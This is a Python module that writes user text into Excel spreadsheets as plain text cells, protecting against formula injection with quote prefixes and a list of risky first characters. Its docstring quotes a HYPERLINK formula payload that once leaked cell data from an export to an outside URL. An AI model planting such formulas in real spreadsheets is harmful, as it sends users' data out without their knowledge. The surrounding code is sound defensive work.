"""User text into a spreadsheet the desk writes — always as text, never as a formula.  One place for every
writer (exports, import problem reports, the import template, score sheets, plans); docs/records.md,
"Spreadsheets the desk writes".

openpyxl turns a string starting with ``=`` into a formula cell (``<f>`` in the sheet XML) and ``#N/A`` and
the other error words into error cells; a name ``=HYPERLINK("http://…?leak="&A1,"点我")`` became a live link
in the supervisor's export.  Following the OWASP CSV-injection guidance, the desk writes user text as
**typed text cells** (``t="inlineStr"``: Excel, WPS and LibreOffice show the characters, evaluate nothing)
and gives a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF (or their full-width
forms) the **quote-prefix style** (Excel's leading apostrophe), so editing the cell later keeps it text.
The text itself is not changed — no ``'`` is added — so a corrected problem report imports the same value.

Characters XML 1.0 cannot carry (C0 controls but tab/LF/CR, lone surrogates) are written as U+FFFD: the
import refuses them (:mod:`.text_policy`), but a record stored before that rule must not make an export
fail for good.  openpyxl is imported only by the functions that need it.
"""

from __future__ import annotations

import re
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any, Iterable

if TYPE_CHECKING:
    from pathlib import Path

#: first characters that make a spreadsheet read text as a formula when it is typed or pasted
RISKY_FIRST = frozenset("=+-@\t\r\n＝＋－＠")
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: what openpyxl would store as an error cell rather than text
_ERROR_WORDS = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
_TITLE_BAD = re.compile(r"[\\/*?:\[\]]")


def writable(text: str) -> str:
    """``text`` with the characters an .xlsx cannot hold replaced by U+FFFD."""
    return _UNWRITABLE.sub("\ufffd", text)


def _needs_care(value: str) -> bool:
    return bool(value) and (value[0] in RISKY_FIRST or not value.isprintable() or value in _ERROR_WORDS)


def text_cell(ws, value: Any):
    """A cell of ``ws`` (normal or write-only) holding ``value``; a string is a typed text cell, quote-prefixed
    when it starts like a formula.  Style it (font, fill …) as any openpyxl cell."""
    from openpyxl.cell.cell import Cell

    if not isinstance(value, str):
        return Cell(ws, row=1, column=1, value=value)
    text = writable(value) if not value.isprintable() else value
    cell = Cell(ws, row=1, column=1, value=None)
    cell._value = text  # bound directly: the setter would make "=…" a formula and "#N/A" an error
    cell.data_type = "s"
    if text and text[0] in RISKY_FIRST:
        cell.quotePrefix = True
    return cell


def header_row(ws, texts: Iterable[Any], font) -> list:
    """A header row for ``ws.append``: each of ``texts`` a :func:`text_cell` in ``font`` (a bold
    :class:`openpyxl.styles.Font`, made once by the caller)."""
    cells = []
    for text in texts:
        cell = text_cell(ws, text)
        cell.font = font
        cells.append(cell)
    return cells


def row(ws, values: Iterable[Any]) -> list:
    """``values`` as ``ws.append`` takes them: plain values stay (fast), strings that need care become
    :func:`text_cell` cells.  Use for every row with user text."""
    out = list(values)
    for i, value in enumerate(out):
        if value.__class__ is str and _needs_care(value):
            out[i] = text_cell(ws, value)
    return out


def put(ws, row_number: int, column: int, value: Any):
    """``ws.cell(row, column, value)`` for a normal worksheet, with :func:`text_cell`'s rules; returns the cell."""
    cell = ws.cell(row=row_number, column=column)
    if isinstance(value, str):
        safe = text_cell(ws, value)
        cell._value = safe._value
        cell.data_type = "s"
        if safe.quotePrefix:
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def sheet_title(name: str, taken: Iterable[str] = ()) -> str:
    """A sheet title Excel accepts made from any name: no ``\\ / * ? : [ ]``, at most 31 characters, not
    blank, not one already ``taken``."""
    title = _TITLE_BAD.sub("_", writable(name)).strip("'")[:31] or "Sheet"
    taken = set(taken)
    base, n = title, 1
    while title in taken:
        n += 1
        suffix = f" ({n})"
        title = base[:31 - len(suffix)] + suffix
    return title


def notes_sheet(wb, instructions: Iterable[str], sections: Iterable[tuple[str, list, list]], width: int) -> None:
    """The 说明 sheet an import template opens on: ``instructions`` (the first line bold), then per sheet its
    name, its column titles and one example row — examples live here, never on the sheets that are imported.
    ``sections``: ``(sheet name, titles, example values)``; ``width``: the example columns' width."""
    from datetime import date

    from openpyxl.styles import Font

    bold = Font(bold=True)
    notes = wb.create_sheet("说明", 0)
    notes.column_dimensions["A"].width = 24
    for letter in "BCDEFGH":
        notes.column_dimensions[letter].width = width
    lines = list(instructions)
    for number, text in enumerate(lines, start=1):
        put(notes, number, 1, text).font = bold if number == 1 else Font()
    at = len(lines) + 2
    for name, titles, examples in sections:
        put(notes, at, 1, f"【{name}】").font = bold
        for i, title in enumerate(titles, start=2):
            put(notes, at, i, title).font = bold
        for i, value in enumerate(examples, start=2):
            cell = put(notes, at + 1, i, value)
            if isinstance(value, date):
                cell.number_format = "yyyy-mm-dd"
        at += 3


def save_workbook(wb, path) -> "Path":
    """Save ``wb`` (normal or write-only) to ``path`` whole or not at all: its folder made if missing, the
    workbook written to a hidden ``.partial`` file beside it, then renamed over ``path`` — a full disk, a folder
    in the way, a folder that cannot be made or a crash mid-write never leaves a half-written workbook under the
    real name (the previous file, if any, stays), nor a write-only workbook's unsaved sheets to the garbage
    collector (which prints a traceback at exit).  Every writer of the desk saves through here.  Raises the
    ``OSError`` (the partial file removed)."""
    import os
    from pathlib import Path

    path = Path(path)
    partial = path.with_name(f".{path.name}.partial")
    try:
        if path.is_dir():
            raise IsADirectoryError(21, "是文件夹 (is a folder)", str(path))
        path.parent.mkdir(parents=True, exist_ok=True)
        wb.save(str(partial))
        os.replace(partial, path)
    except BaseException as exc:
        try:
            partial.unlink()
        except OSError:
            pass
        _discard(wb)
        if isinstance(exc, OSError) and exc.filename == str(partial):   # named as the user named it
            raise OSError(exc.errno, exc.strerror, str(path)) from None
        raise
    return path


@contextmanager
def dropped_unless_saved(wb):
    """``with dropped_unless_saved(wb):`` around the building of a write-only workbook ``wb``: if the block
    leaves without :func:`save_workbook` — a cancel's early return, an exception — the unsaved sheets are
    finished and removed then, not left to the garbage collector (which prints "Exception ignored … Traceback"
    when it closes their row writers, at the latest at the program's exit).  A saved workbook is left as it is."""
    try:
        yield wb
    finally:
        _discard(wb)


def _discard(wb) -> None:
    """A write-only workbook that will not be saved: each sheet's temporary file finished and removed now (left
    to the garbage collector, its row writer fails on the closed file and prints a traceback at exit)."""
    for ws in getattr(wb, "_sheets", ()):
        writer = getattr(ws, "_writer", None)
        if writer is None or getattr(ws, "closed", True) is not False:
            continue
        try:
            ws.close()
            writer.cleanup()
        except Exception:  # noqa: BLE001 - best effort: the workbook is being dropped
            pass
